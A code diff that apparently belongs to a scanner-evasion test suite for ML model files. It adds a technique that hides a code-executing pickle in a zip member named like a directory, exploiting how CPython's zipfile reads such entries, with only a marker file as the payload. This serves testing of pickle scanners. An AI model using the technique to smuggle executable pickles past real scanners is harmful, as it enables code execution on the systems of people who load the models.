@@ -171,6 +171,14 @@ def zip_after_gguf(path: Path, marker: Path) -> None:
     path.write_bytes(gguf + body + directory + _eocd(1, len(directory), len(body)))
 
 
+@technique("zip-directory-member-with-data", "CPython zipfile: ZipFile.read of a name ending '/' returns "
+           "its bytes (is_dir() is the name alone)", LOAD_MEMBERS, ".zip")
+def zip_directory_member(path: Path, marker: Path) -> None:
+    with zipfile.ZipFile(path, "w") as z:
+        z.writestr("model.pkl", BENIGN)
+        z.writestr("extra/", exec_pickle(marker))
+
+
 # --- zip members zipfile inflates and torch's miniz does not ----------------------------------------
 
 @technique("npz-bzip2-member", "CPython zipfile ZIP_BZIP2 (numpy NpzFile)", NUMPY_LOAD, ".npz")
